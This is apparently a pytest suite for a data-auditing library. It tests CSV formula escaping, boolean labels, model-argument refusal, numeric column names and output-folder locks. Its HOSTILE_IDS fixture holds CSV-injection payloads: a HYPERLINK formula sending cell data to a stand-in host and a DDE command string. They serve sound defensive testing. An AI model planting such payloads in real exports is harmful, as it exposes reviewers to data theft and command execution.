"""Gaps a real user hits: CSV cells a spreadsheet runs as formulas, boolean labels, a model
named for an audit that trains none, column names that are numbers, two commands writing one
output folder at once. Array audits and tiny datasets with checks that train no model: seconds."""

from __future__ import annotations

import contextlib
import csv
import json
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest

import datacheck
from datacheck.errors import BadDataError, UsageError
from datacheck.manifest import load_manifest
from datacheck.reporting.csv import escape_formulas, write_findings_csv

from .conftest import assert_one_line_error, invoke, make_image

# --------------------------------------------------------------------------- CSV injection

#: Sample ids a spreadsheet would run as formulas, and one that really starts with a quote.
HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "'=not a formula"]


@pytest.fixture
def hostile_run(tmp_path):
    """An array audit of 30 samples of the classes ``@home`` and ``work`` (columns in sorted
    order), whose first five rows have hostile ids and labels the probabilities reject."""
    n = 30
    ids = HOSTILE_IDS + [f"s{i}" for i in range(len(HOSTILE_IDS), n)]
    truth = np.arange(n) % 2
    labels = truth.copy()
    labels[: len(HOSTILE_IDS)] = 1 - truth[: len(HOSTILE_IDS)]
    classes = np.array(["@home", "work"])
    manifest = tmp_path / "manifest.csv"
    pd.DataFrame({"sample_id": ids, "label": classes[labels]}).to_csv(manifest, index=False)
    probs = np.full((n, 2), 0.05)
    probs[np.arange(n), truth] = 0.95
    np.save(tmp_path / "p.npy", probs)
    run = datacheck.audit(manifest, pred_probs=tmp_path / "p.npy", out=tmp_path / "run")
    flagged = set(run.issues("label_issues")["sample_id"])
    assert flagged == set(HOSTILE_IDS)
    return run.run_dir, dict(zip(ids, classes[truth]))


def test_review_csv_escapes_formula_cells_and_reads_them_back_exactly(hostile_run, tmp_path):
    """OWASP's remedy: a text cell starting with = + - @ (or a quote) is written with a leading
    quote, so a spreadsheet shows it as text; --import-review removes it again, so each
    decision lands on the sample it names and accepts the suggestion the file shows (before:
    the ids were written raw, and Excel ran =HYPERLINK(...) when the reviewer opened the file)."""
    run, truth = hostile_run
    review = tmp_path / "review.csv"
    datacheck.relabel(run, export_review=review)
    with open(review, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 5
    by_id = {row["sample_id"]: row for row in rows}
    assert set(by_id) == {"'" + i for i in HOSTILE_IDS}  # each escaped by one quote, "'=..." by a second
    first = by_id["'" + HOSTILE_IDS[0]]
    assert first["label"] == "work" and first["suggested_label"] == "'@home"  # a class name is escaped too
    assert float(first["confidence"]) == pytest.approx(0.95)  # numbers stay numbers
    for row in rows:
        row["decision"] = "relabel"  # blank new_label: accept the suggestion the file shows
    with open(review, "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    changes = datacheck.relabel(run, import_review=review).changes.set_index("sample_id")
    assert sorted(changes.index) == sorted(HOSTILE_IDS)
    assert (changes["action"] == "relabel").all()
    assert changes["new_label"].to_dict() == {i: truth[i] for i in HOSTILE_IDS}


def test_findings_csv_escapes_text_cells_only(hostile_run, tmp_path):
    run, _ = hostile_run
    path = datacheck.report(run, out=tmp_path / "r.html", csv=True).csv
    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    ids = set(table.loc[table["check"] == "label_issues", "sample_id"])
    assert {"'" + i for i in HOSTILE_IDS} <= ids and "s5" in ids
    # a numeric column keeps its minus sign; a text one gets the quote
    frame = pd.DataFrame({"score": [-0.5, 0.25], "label": ["-1", "cat"], "is_issue": [True, False]})
    assert escape_formulas(frame).to_dict("list") == {"score": [-0.5, 0.25], "label": ["'-1", "cat"],
                                                      "is_issue": [True, False]}
    findings = datacheck.load(run).findings.head(2).assign(score=[-0.5, 0.25])
    written = pd.read_csv(write_findings_csv(findings, tmp_path / "f.csv"), dtype=str, keep_default_na=False)
    assert written["score"].tolist() == ["-0.5", "0.25"]


# --------------------------------------------------------------------------- boolean labels


@pytest.fixture(scope="module")
def binary():
    """40 samples of a binary target: boolean labels, the first 4 flipped against
    probabilities (columns False, True) that are confident of the truth."""
    n = 40
    truth = (np.arange(n) % 2).astype(bool)
    labels = truth.copy()
    labels[:4] = ~labels[:4]
    probs = np.full((n, 2), 0.05)
    probs[np.arange(n), truth.astype(int)] = 0.95
    return labels, probs


@pytest.mark.parametrize("kind", ["ndarray", "list", "Series", "boolean", "classes_", "DataFrame columns"])
def test_boolean_labels_are_the_classes_false_and_true(binary, kind):
    """As scikit-learn takes a boolean target (classes_ [False, True]) and a manifest's boolean
    label column is read: the classes "False" and "True", False the first column (before:
    "labels must hold integer class ids")."""
    labels, probs = binary
    given = {"ndarray": {"labels": labels}, "list": {"labels": labels.tolist()},
             "Series": {"labels": pd.Series(labels)}, "boolean": {"labels": pd.array(labels, dtype="boolean")},
             "classes_": {"labels": labels, "class_names": np.array([False, True])},
             "DataFrame columns": {"labels": labels, "pred_probs": pd.DataFrame(probs, columns=[False, True])}}[kind]
    result = datacheck.audit(**{"pred_probs": probs, **given})
    issues = result.issues("label_issues")
    assert sorted(issues["sample_id"]) == ["0", "1", "2", "3"]
    assert issues.set_index("sample_id")["suggested_label"].sort_index().tolist() == ["False", "True", "False", "True"]
    assert sorted(result.findings["label"].unique()) == ["False", "True"]


def test_boolean_labels_by_name_and_in_a_manifest(binary, tmp_path):
    labels, probs = binary
    # class names in another order: matched by name, not as the ids 0 and 1
    reordered = datacheck.audit(pred_probs=probs[:, ::-1], labels=labels, class_names=["True", "False"])
    assert sorted(reordered.issues("label_issues")["sample_id"]) == ["0", "1", "2", "3"]
    in_frame = datacheck.audit(pd.DataFrame({"label": labels}), pred_probs=probs)
    assert sorted(in_frame.issues("label_issues")["sample_id"]) == ["0", "1", "2", "3"]
    np.save(tmp_path / "p.npy", probs)
    np.save(tmp_path / "l.npy", labels)
    result = invoke("audit", "--pred-probs", tmp_path / "p.npy", "--labels", tmp_path / "l.npy", "--out",
                    tmp_path / "run", "--json", "-q")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["checks"]["label_issues"]["flagged"] == 4


def test_boolean_labels_that_cannot_name_the_columns_say_how(binary):
    labels, probs = binary
    three = np.column_stack([probs * 0.5, np.full(len(probs), 0.5)])
    with pytest.raises(BadDataError, match=r"^labels are booleans, the classes False and True, but pred_probs has 3 "
                                           r"columns; give class_names, one per column, False and True among them$"):
        datacheck.audit(pred_probs=three, labels=labels)
    with pytest.raises(BadDataError, match=r"^labels are booleans, and False is not among the class names \['no', 'yes'\]$"):
        datacheck.audit(pred_probs=pd.DataFrame(probs, columns=["no", "yes"]), labels=labels)


# --------------------------------------------------------------------------- a model that nothing trains


@pytest.mark.parametrize("given", [{"model": "resnet18"}, {"model": "convnet-small"}, {"weights": "w.pt"}])
def test_a_model_named_for_an_array_audit_is_refused(binary, given):
    """An audit of pred_probs or embeddings trains nothing: model= was silently ignored."""
    labels, probs = binary
    (name,) = given
    message = (rf"^{name} goes with an audit of images, which trains a model; an audit of pred_probs or embeddings "
               rf"trains none: leave {name} out$")
    with pytest.raises(UsageError, match=message):
        datacheck.audit(pred_probs=probs, labels=labels, **given)
    with pytest.raises(UsageError, match=message):  # a manifest of the arrays' rows, embeddings alone
        datacheck.audit(pd.DataFrame({"label": labels}), embeddings=probs, **given)


def test_model_on_the_command_line_of_an_array_audit_is_exit_2(binary, tmp_path):
    labels, probs = binary
    np.save(tmp_path / "p.npy", probs)
    np.save(tmp_path / "l.npy", labels.astype(np.int64))
    result = invoke("audit", "--pred-probs", tmp_path / "p.npy", "--labels", tmp_path / "l.npy", "--model",
                    "efficientnet-lite0", "--out", tmp_path / "run")
    assert_one_line_error(result, 2, "--model goes with an audit of images", "leave --model out")
    assert not (tmp_path / "run").exists()


def test_a_model_is_still_taken_where_it_can_be_used(binary, tiny_dataset):
    labels, probs = binary
    # a config file's model is a project default, not a request for this audit
    result = datacheck.audit(pred_probs=probs, labels=labels, config={"audit": {"model": "resnet18"}})
    assert result.summary["checks"]["label_issues"]["flagged"] == 4
    # an image audit: the model is the one its model checks would train
    result = datacheck.audit(tiny_dataset, checks=["exact_duplicates"], model="convnet-small", workers=0)
    assert result.summary["samples"] == 16


# --------------------------------------------------------------------------- column names that are numbers


def test_columns_named_by_whole_numbers_are_read_by_name(tmp_path):
    """Reported as "read by position": they are not. pandas names a CSV's columns by its header
    text, and datacheck reads its own columns by those names wherever they stand: the user's
    columns "1" and "0" keep their values, and nothing is taken for path or label by place."""
    for i in range(6):
        make_image(tmp_path / "imgs" / f"{i}.png", seed=i)
    (tmp_path / "m.csv").write_text("1,label,0,path\n" + "".join(f"x{i},{'ab'[i % 2]},{10 * i},imgs/{i}.png\n"
                                                                for i in range(6)))
    frame = load_manifest(tmp_path / "m.csv").frame
    assert list(frame.columns) == ["sample_id", "path", "label", "split", "1", "0"]
    assert frame["path"].tolist() == [f"imgs/{i}.png" for i in range(6)]
    assert frame["label"].tolist() == list("ababab")
    assert frame["1"].tolist() == [f"x{i}" for i in range(6)] and frame["0"].tolist() == [0, 10, 20, 30, 40, 50]
    # a header of numbers alone names no path: said with the columns, not read by position
    (tmp_path / "numbers.csv").write_text("0,1,2\nimgs/0.png,a,x\n")
    with pytest.raises(BadDataError, match=r"has no 'path' column \(columns: 0, 1, 2\)$"):
        load_manifest(tmp_path / "numbers.csv")
    # and the user's columns come back under their names in what relabel writes
    run = datacheck.audit(tmp_path / "m.csv", out=tmp_path / "run", checks=["exact_duplicates"], workers=0)
    datacheck.relabel(run.run_dir, out=tmp_path / "fixed")
    written = pd.read_csv(tmp_path / "fixed" / "manifest.csv", dtype=str)
    assert written.columns.tolist()[-2:] == ["1", "0"] and written["0"].tolist() == ["0", "10", "20", "30", "40", "50"]


def test_an_array_manifest_with_a_column_named_1_reads_ids_and_labels_by_name(binary, tmp_path):
    labels, probs = binary
    rows = "".join(f"s{i},{i * 7},{'yes' if label else 'no'}\n" for i, label in enumerate(labels))
    (tmp_path / "m.csv").write_text("sample_id,1,label\n" + rows)
    result = datacheck.audit(tmp_path / "m.csv", pred_probs=probs)
    assert sorted(result.issues("label_issues")["sample_id"]) == ["s0", "s1", "s2", "s3"]
    assert sorted(result.findings["label"].unique()) == ["no", "yes"]


# --------------------------------------------------------------------------- one writer per output folder


@contextlib.contextmanager
def held_elsewhere(*folders):
    """The output lock of each of ``folders``, held by another Python process through datacheck's
    own helper (as a command writing them holds it); that process is killed with SIGKILL at
    the end, as a crashed command would be. Yields its pid."""
    code = ("import contextlib, sys, time\nfrom datacheck.runs import folder_lock\n"
            "with contextlib.ExitStack() as locks:\n"
            "    for folder in sys.argv[1:]:\n        locks.enter_context(folder_lock(folder))\n"
            "    print('held', flush=True)\n    time.sleep(600)\n")
    holder = subprocess.Popen([sys.executable, "-c", code, *map(str, folders)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        yield holder.pid
    finally:
        holder.kill()
        holder.wait()


def test_an_audit_into_a_folder_another_process_writes_is_refused(tiny_dataset, tmp_path):
    """Two audits into one --out at once mixed their files; now the second is exit 2 before it
    writes anything, and a killed holder leaves no lock behind (the system drops it)."""
    run = tmp_path / "run"
    args = ("audit", tiny_dataset, "--out", run, "--checks", "exact_duplicates", "--workers", 0, "-q")
    with held_elsewhere(run) as pid:
        assert_one_line_error(invoke(*args), 2, f"--out {run} is being written by another datacheck process "
                                                f"(pid {pid}); wait for it to finish, or write elsewhere")
        assert [p.name for p in run.iterdir()] == [".datacheck.lock"]  # nothing of the audit's
        with pytest.raises(UsageError, match=rf"^out {run} is being written by another datacheck process"):
            datacheck.audit(tiny_dataset, out=run, checks=["exact_duplicates"], workers=0)
    assert (run / ".datacheck.lock").exists()  # the killed holder's file, no longer locked
    assert invoke(*args).exit_code == 0
    assert sorted(p.name for p in run.iterdir()) == ["artifacts", "findings.parquet", "run.json", "summary.json"]


def test_every_command_that_writes_a_folder_takes_its_lock(tiny_dataset, tmp_path):
    run, plan, made = tmp_path / "run", tmp_path / "plan", tmp_path / "made"
    assert invoke("audit", tiny_dataset, "--out", run, "--checks", "exact_duplicates,image_properties", "--workers", 0,
                  "-q").exit_code == 0
    assert invoke("balance", run, "--strategy", "classes", "--out", plan, "-q").exit_code == 0
    assert invoke("augment", plan, "--out", made, "--workers", 0, "-q").exit_code == 0
    # a file an augment in progress is writing, which a resumed one would delete as a killed run's
    in_progress = made / "train" / "cat" / ".cat0-aug0.png.abcd1234.tmp"
    in_progress.write_bytes(b"half")
    outs = {name: tmp_path / name for name in ("relabel", "balance", "fix")}
    with held_elsewhere(run, made, *outs.values()) as pid:
        busy = "is being written by another datacheck process"
        for args, folder in [(("relabel", run, "--out", outs["relabel"]), outs["relabel"]),
                             (("balance", run, "--strategy", "classes", "--out", outs["balance"]), outs["balance"]),
                             (("augment", plan, "--out", made, "--resume", "--workers", 0), made),
                             (("fix", tiny_dataset, "--out", outs["fix"], "--workers", 0), outs["fix"])]:
            assert_one_line_error(invoke(*args, "-q"), 2, f"--out {folder} {busy} (pid {pid})")
        assert_one_line_error(invoke("report", run, "-q"), 2, f"the run {run} {busy} (pid {pid})")
        assert in_progress.read_bytes() == b"half"
        assert all([p.name for p in folder.iterdir()] == [".datacheck.lock"] for folder in outs.values())
        assert not (run / "report.html").exists()
        # a report written elsewhere does not write into the run
        assert invoke("report", run, "--out", tmp_path / "elsewhere.html", "-q").exit_code == 0
    assert invoke("report", run, "-q").exit_code == 0 and (run / "report.html").is_file()
